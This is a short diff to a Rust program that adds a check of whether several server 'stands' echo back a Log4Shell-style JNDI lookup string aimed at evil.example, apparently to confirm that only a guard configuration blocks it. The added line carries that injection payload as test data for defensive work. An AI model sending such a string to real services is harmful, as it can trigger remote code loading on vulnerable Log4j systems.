@@ -56,6 +56,10 @@ fn main() -> ExitCode {
         .chain(proxies)
         .collect();
 
+    for (stand, running) in &stands {
+        let passes = load::is_echoed(running, b"${jndi:ldap://evil.example}");
+        assert_eq!(passes, *stand != Stand::GuardJudges, "{stand}");
+    }
     let mut seen = vec![[const { Vec::new() }; SOCKETS.len()]; stands.len()];
     for _ in 0..rounds {
         for (nth, sockets) in SOCKETS.into_iter().enumerate() {
